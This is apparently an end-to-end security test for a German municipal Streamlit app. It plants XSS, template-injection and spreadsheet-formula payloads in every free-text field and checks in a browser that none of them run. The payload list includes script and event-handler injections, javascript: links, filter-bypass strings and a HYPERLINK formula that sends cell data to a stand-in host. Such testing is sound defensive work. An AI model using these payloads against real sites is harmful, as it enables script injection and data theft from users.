"""Script payloads typed into every free-text field show as plain text on every page, and never run.

The payloads are written through the model's write functions (every free-text field the pages offer),
a few also through the real forms of Mein Status. Real Chromium then opens every page where the values
are shown, as the CDO-Büro, a Lotse and the Verwaltungsleitung. A payload that ran would set
`window.__xss`, open a dialog (alert) or leave an element with an event handler or a javascript: link.
"""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Dialog, Page, expect
from sqlmodel import select

from model import demo, exchange
from model.accounts import auth as auth_store
from model.accounts.auth import UserInfo
from model.accounts.passwords import hash_password
from model.core import clock
from model.core.db import make_engine, read_session, write_session
from model.core.enums import ActivityType, Category, Role
from model.core.migrate import migrate
from model.core.tables import Activity, AppUser, Measure, OrgUnit, Phase, Pilot
from model.funding import programmes as funding
from model.meetings import snapshots
from model.org import units as org_units
from model.pilots import commands
from model.pilots.commands import ActivityReport, StatusReport
from model.programme import plan as programme
from model.roadmap import ideas
from model.roadmap.commands import MeasureEdit, update_measure
from model.training import modules as training_modules
from tests.e2e.conftest import DEMO_PASSWORD, VIEWPORT, login, open_app
from tests.support.actors import admin
from tests.support.app_server import new_cookie_key, streamlit_server, wait_for_app

pytestmark = pytest.mark.e2e

# Each payload, if a browser ever ran it, sets window.__xss or opens a dialog. At most 100 characters,
# one line and no control characters, so that it fits every field (the shortest limit is a phase name).
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    '<svg onload="window.__xss=3"></svg>',
    "<svg><script>window.__xss=4</script></svg>",
    '<iframe src="javascript:top.__xss=5"></iframe>',
    '<a href="javascript:window.__xss=6">Klick mich</a>',
    "[Klick mich](javascript:window.__xss=7)",
    '![Bild](x" onerror="window.__xss=8)',
    "![x](javascript:alert(9))",
    "&lt;img src=x onerror=alert(10)&gt;",
    "&#60;script&#62;alert(11)&#60;/script&#62;",
    "{{7*7}} {{constructor.constructor('window.__xss=12')()}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("https://boese.example/?d="&A1,"Klick")',
    "=1+1",
    "+SUM(1;1)",
    "-2+3",
    "@SUM(1,1)",
    '"><script>alert(19)</script>',
    "'><img src=x onerror=alert(20)>",
    "javascript:alert(21)",
    '<details open ontoggle="window.__xss=22">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(23)>",
    "<style>*{display:none!important}</style>",
    '<input autofocus onfocus="window.__xss=25">',
    "<scr<script>ipt>alert(26)</scr</script>ipt>",
    "%3Cscript%3Ealert(27)%3C/script%3E",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">28</a>',
    "\u202egnp.exe Rechnung \u202c(29)",
    "Amt\u200bfür\u200dDigitales\ufeff (30)",
    "\uff1cscript\uff1ealert(31)\uff1c/script\uff1e",
    ":red[rot] **fett** _kursiv_ $x^2$ :blue-background[blau] (32)",
    "<!-- (33) --> </textarea><script>alert(33)</script>",
    "\\<b\\>(34)\\</b\\> `code` ~~durch~~ # Überschrift",
]
XSS_ADMIN = "xss-admin"
XSS_ADMIN_PASSWORD = "Skript-Test-Passwort-2026"
# What the real forms get (one per field), typed like a user would.
FORM_TEXT = "<img src=x onerror=alert('Formular 1')>"
FORM_NOTE = "[Formular 2](javascript:alert(2))"
FORM_BLOCKER = "<script>window.__xss='Formular 3'</script>"
FORM_PAYLOADS = {
    "Was haben Sie seit der letzten Meldung getan? (optional)": FORM_TEXT,
    "Notiz zur Aktivität (optional)": FORM_NOTE,
    "Hindernis (optional)": FORM_BLOCKER,
}
IDEA_TITLE = "<svg onload=alert('Idee')> Idee aus dem Formular"
IDEA_DESCRIPTION = "**Beschreibung** <b onmouseover=alert(1)>aus dem Formular</b>"
JOINER = "\u2060"  # invisible; ui.plain.escaped puts it where Streamlit would draw a bare link
SHOWN_WITHIN = 15  # seconds, as long as a slow first render may take under full-suite load
# Console errors of Streamlit itself (a missing favicon, the first run of a deep link), not of a payload.
BENIGN_CONSOLE_ERRORS = ("Failed to load resource", "does not seem to exist")
# Elements a payload that was interpreted as HTML or Markdown would leave behind.
INJECTED = (
    "[onerror], [onload], [ontoggle], [onfocus], [onmouseover], "
    "a[href^='javascript:' i], a[href^='data:' i], iframe[src^='javascript:' i], img[src='x']"
)


def numbered(payload: str, number: int) -> str:
    """Unique and at least five characters (titles, names and Kürzel must be unique)."""
    return f"{payload} #{number}"


def lotse_user(session) -> UserInfo:
    row = session.exec(select(AppUser).where(AppUser.username == "lotse")).one()
    return UserInfo(
        id=row.id,
        username=row.username,
        display_name=row.display_name,
        role=Role.LOTSE,
        pilot_id=row.pilot_id,
    )


def write_payloads(engine) -> None:
    """Every payload into every free-text field, through the model's write functions."""
    today = clock.today()
    with write_session(engine) as session:
        lotse = lotse_user(session)
        dezernat = session.exec(select(OrgUnit.id).where(OrgUnit.parent_id.is_(None))).first()  # type: ignore[union-attr]
        phases = session.exec(select(Phase).order_by(Phase.position)).all()
        measures = session.exec(select(Measure.id, Measure.version).order_by(Measure.id)).all()
        for number, payload in enumerate(PAYLOADS, start=1):
            commands.record_status_update(
                session=session,
                actor=lotse,
                data=commands.NewStatusUpdate(
                    pilot_id=lotse.pilot_id,
                    report=StatusReport(
                        text=payload,
                        blocker=payload,
                        support_wanted=True,
                        activities=(ActivityReport(ActivityType.WORKSHOP.value, 1, today, payload),),
                    ),
                ),
            )
            ideas.submit_idea(
                session=session,
                actor=lotse,
                data=ideas.NewIdea(
                    pilot_id=lotse.pilot_id,
                    title=numbered(payload, number),
                    description=payload,
                    category=Category.INTERNAL.value,
                ),
            )
            measure_id, version = measures[(number - 1) % len(measures)]
            update_measure(
                session=session,
                actor=admin("cdo"),
                data=MeasureEdit(
                    measure_id=measure_id,
                    expected_version=version,
                    changes={"description": payload, "decision_ref": f"{payload[:40]} #{number}"},
                ),
            )
            org_units.add_unit(
                session=session,
                actor=admin("cdo"),
                data=org_units.NewUnit(code=f"XSS-{number}", name=payload, kind="amt", parent_id=dezernat),
            )
            auth_store.create_user(
                session=session,
                username=f"xss-{number}",
                display_name=payload,
                role=Role.LEITUNG,
                password=XSS_ADMIN_PASSWORD,
                actor="cdo",
            )
            funding.create_programme(
                session=session,
                actor=admin(),
                data=funding.ProgrammeInput(
                    name=numbered(payload, number), donor="land", status="identified"
                ),
            )
            phase_id = phases[(number - 1) % len(phases)].id
            programme.add_milestone(
                session=session,
                actor=admin("cdo"),
                data=programme.MilestoneInput(
                    phase_id=phase_id, title=payload, due_on=date(2027, 1, number % 28 + 1)
                ),
            )
            programme.add_gate_decision(
                session=session,
                actor=admin("cdo"),
                data=programme.GateInput(
                    phase_id=phase_id,
                    body=payload,
                    decided_on=date(2026, 1, number % 28 + 1),
                    paper_no=f"V/{number}",
                    summary=payload,
                ),
            )
            training_modules.add_training_module(
                session=session,
                actor=admin("cdo"),
                data=training_modules.ModuleInput(
                    name=numbered(payload, number), kind="advanced", duration_days=1
                ),
            )
        for phase, payload in zip(phases, PAYLOADS, strict=False):
            programme.update_phase(
                session=session,
                actor=admin("cdo"),
                data=programme.PhaseEdit(
                    phase_id=phase.id,
                    expected_version=phase.version,
                    **{
                        **phase.model_dump(include=set(programme.PHASE_FIELDS)),
                        "status": "blocked",
                        "status_note": payload,
                    },
                ),
            )
        snapshots.take_snapshot(
            session=session, actor=admin(), data=snapshots.MeetingInput(title=PAYLOADS[0], held_on=today)
        )
    import_pilots(engine)


def import_pilots(engine) -> None:
    """Lotsen named like the payloads, through the import (the only way Lotsen come in)."""
    with read_session(engine) as session:
        unit_code = session.exec(
            select(OrgUnit.code)
            .join(Pilot, Pilot.unit_id == OrgUnit.id)
            .join(AppUser, AppUser.pilot_id == Pilot.id)
            .where(AppUser.username == "lotse")
        ).one()
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", quoting=csv.QUOTE_ALL)
    writer.writerow(["Name", "E-Mail", "Organisationseinheit (Kürzel)", "Stufe", "Seit", "Stunden pro Woche"])
    for number, payload in enumerate(PAYLOADS, start=1):
        writer.writerow([payload, f"xss{number}@stadt.example", unit_code, "aktiv", "01.03.2026", "2"])
    parsed = exchange.read_upload(files=[("Lotsen.csv", buffer.getvalue().encode("utf-8"))])
    with read_session(engine) as session:
        plan = exchange.plan_import(session=session, parsed=parsed)
    assert not plan.errors, [error.line() for error in plan.errors]
    with write_session(engine) as session:
        exchange.apply_import(session=session, plan=plan, actor="cdo")


@pytest.fixture(scope="module")
def xss_database(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Its own demo database full of payloads, so no other test sees them."""
    url = f"sqlite:///{tmp_path_factory.mktemp('xss') / 'lotsen.db'}"
    engine = make_engine(url)
    migrate(engine)
    demo.seed(engine=engine, scale="demo")
    with pytest.MonkeyPatch.context() as patch:
        # 30+ accounts: the cheapest bcrypt cost keeps the set-up fast (logins still check it).
        patch.setattr(auth_store, "hash_password", lambda password: hash_password(password, rounds=4))
        write_payloads(engine)
        with write_session(engine) as session:
            auth_store.create_user(
                session=session,
                username=XSS_ADMIN,
                display_name=PAYLOADS[1],
                role=Role.ADMIN,
                password=XSS_ADMIN_PASSWORD,
                actor="cdo",
            )
    engine.dispose()
    return url


@pytest.fixture(scope="module")
def xss_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("xss-server") / "streamlit.log"


@pytest.fixture(scope="module")
def xss_url(xss_database: str, xss_log: Path) -> Iterator[str]:
    with streamlit_server(xss_database, cookie_key=new_cookie_key(), log_file=xss_log) as base_url:
        yield base_url


def stored_notes(database_url: str, note: str) -> int:
    engine = make_engine(database_url)
    try:
        with read_session(engine) as session:
            return len(session.exec(select(Activity.id).where(Activity.note == note)).all())
    finally:
        engine.dispose()


@dataclass
class Watch:
    """What the page did that it must not: dialogs opened, console errors, uncaught exceptions."""

    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def console(self, message: ConsoleMessage) -> None:
        if message.type == "error" and not any(benign in message.text for benign in BENIGN_CONSOLE_ERRORS):
            self.errors.append(message.text)


@pytest.fixture
def watched(browser: Browser, xss_url: str) -> Iterator[tuple[BrowserContext, Watch]]:
    context = browser.new_context(viewport=VIEWPORT, locale="de-DE", base_url=xss_url)
    context.set_default_timeout(30_000)
    watch = Watch()
    context.on("page", lambda page: page.on("dialog", watch.dialog))
    context.on("console", watch.console)
    context.on("weberror", lambda error: watch.errors.append(str(error.error)))
    yield context, watch
    context.close()


def logged_in(context: BrowserContext, username: str, password: str) -> Page:
    page = context.new_page()
    login(page, username, password)
    expect(page.get_by_role("heading", name="Übersicht", level=1)).to_be_visible()
    wait_for_app(page)
    return page


def nothing_ran(page: Page, watch: Watch, where: str) -> None:
    page.wait_for_timeout(300)  # charts and components draw after the script run
    assert page.evaluate("() => window.__xss") is None, where
    assert watch.dialogs == [], where
    assert page.evaluate("(selector) => document.querySelectorAll(selector).length", INJECTED) == 0, where
    assert watch.errors == [], where


def shown_as_typed(page: Page, texts: list[str], where: str, server_log: Path) -> None:
    """Every text appears character for character on the page (all tabs), not rendered as markup.

    Polled like Playwright's own assertions: read once, a loaded CI machine found none of the texts
    on /lotsen although the script run was over (the browser was still drawing, presumably).
    """
    deadline = time.monotonic() + SHOWN_WITHIN
    while True:
        text = page.locator("[data-testid=stMain]").text_content() or ""
        shown = re.sub(r"\s+", " ", text.replace(JOINER, ""))
        missing = [text for text in texts if re.sub(r"\s+", " ", text) not in shown]
        if not missing or time.monotonic() > deadline:
            break
        page.wait_for_timeout(200)
    if missing:
        tables = page.locator("[data-testid=stMain] [data-testid=stTable]").count()
        errors = page.locator("[data-testid=stException], [data-testid=stAlert]").all_text_contents()
        visible = page.locator("[data-testid=stMain]").inner_text()[:1500]
        log = server_log.read_text(encoding="utf-8", errors="replace") if server_log.exists() else ""
        raise AssertionError(
            f"{where}: {len(missing)} of {len(texts)} not shown as typed within {SHOWN_WITHIN} s: "
            f"{missing}\n{tables} tables, messages {errors}; visible text: {visible!r}\n"
            f"server log: {log[-3000:]}"
        )


def visit(page: Page, watch: Watch, path: str, title: str | None) -> None:
    """Open the page; `title` is its heading (None: the Präsentation, which opens on its first slide)."""
    open_app(page, path)
    if title is not None:
        expect(page.get_by_role("heading", name=title, level=1)).to_be_visible()
    nothing_ran(page, watch, path)


VERWALTUNG_TABS = (
    "Organisationseinheiten",
    "Benutzer",
    "Programm",
    "Maßnahmen",
    "Förderprogramme",
    "Audit-Log",
)
ADMIN_PAGES = [
    ("/uebersicht", "Übersicht"),
    ("/rollout", "Rollout"),
    ("/abdeckung", "Abdeckung"),
    ("/roadmap", "Roadmap"),
    ("/lotsen", "Lotsen & Qualifizierung"),
    ("/it-strukturen", "IT-Strukturen"),
    ("/foerdermittel", "Fördermittel"),
    ("/praesentation", None),
    *[(f"/verwaltung?reiter={quote(tab)}", "Verwaltung") for tab in VERWALTUNG_TABS],
]
LEITUNG_PAGES = [("/abdeckung", "Abdeckung"), ("/roadmap", "Roadmap"), ("/praesentation", None)]


def test_no_payload_runs_on_any_page_of_the_cdo_buero(watched, xss_log) -> None:
    context, watch = watched
    page = logged_in(context, XSS_ADMIN, XSS_ADMIN_PASSWORD)
    # The admin's own display name is a payload: the sidebar shows it as text.
    expect(page.locator("[data-testid=stSidebar]")).to_contain_text(f"Angemeldet: {PAYLOADS[1]}")
    for path, title in ADMIN_PAGES:
        visit(page, watch, path, title)
        if path == "/lotsen":  # feed, support requests and roster are HTML tables with the texts
            shown_as_typed(page, PAYLOADS, path, xss_log)


def test_payloads_typed_into_mein_status_show_as_typed_and_never_run(watched, xss_database, xss_log) -> None:
    context, watch = watched
    page = logged_in(context, "lotse", DEMO_PASSWORD)
    visit(page, watch, "/mein-status", "Mein Status")

    activity = page.get_by_label("Aktivität", exact=True)  # the note is saved with an activity
    activity.click()
    activity.fill("Workshop")
    page.get_by_role("option", name="Workshop", exact=True).click()
    for label, payload in FORM_PAYLOADS.items():
        page.get_by_label(label, exact=True).fill(payload)
    page.get_by_role("button", name="Meldung speichern").click()
    wait_for_app(page)
    expect(
        page.get_by_test_id("stMain").get_by_text(re.compile(r"^Danke! Ihre Meldung wurde gespeichert"))
    ).to_be_visible()
    nothing_ran(page, watch, "Mein Status, Meldung gespeichert")
    # The newest entries come first; today's activity sorts below today's 35 reports (see /lotsen).
    shown_as_typed(page, [FORM_TEXT, FORM_BLOCKER], "Mein Status, Verlauf", xss_log)
    assert stored_notes(xss_database, FORM_NOTE) == 1

    # Over-long input: the field takes no more than its limit (200), the counter says so.
    title = page.get_by_label("Titel der Idee", exact=True)
    title.press_sequentially("x" * 205, delay=0)
    assert title.input_value() == "x" * 200
    expect(page.get_by_text("200/200", exact=True)).to_be_visible()
    title.fill(IDEA_TITLE)
    page.get_by_label("Beschreibung (optional)", exact=True).fill(IDEA_DESCRIPTION)
    page.get_by_role("button", name="Idee einreichen").click()
    wait_for_app(page)
    expect(page.get_by_test_id("stMain").get_by_text(re.compile(r"^Danke! Ihre Idee"))).to_contain_text(
        f"„{IDEA_TITLE}“"
    )
    nothing_ran(page, watch, "Mein Status, Idee eingereicht")
    shown_as_typed(page, [IDEA_TITLE], "Mein Status, Meine Ideen", xss_log)
    visit(page, watch, "/roadmap", "Roadmap")


def test_no_payload_runs_for_the_verwaltungsleitung(watched) -> None:
    context, watch = watched
    page = logged_in(context, "leitung", DEMO_PASSWORD)
    nothing_ran(page, watch, "/uebersicht")
    for path, title in LEITUNG_PAGES:
        visit(page, watch, path, title)
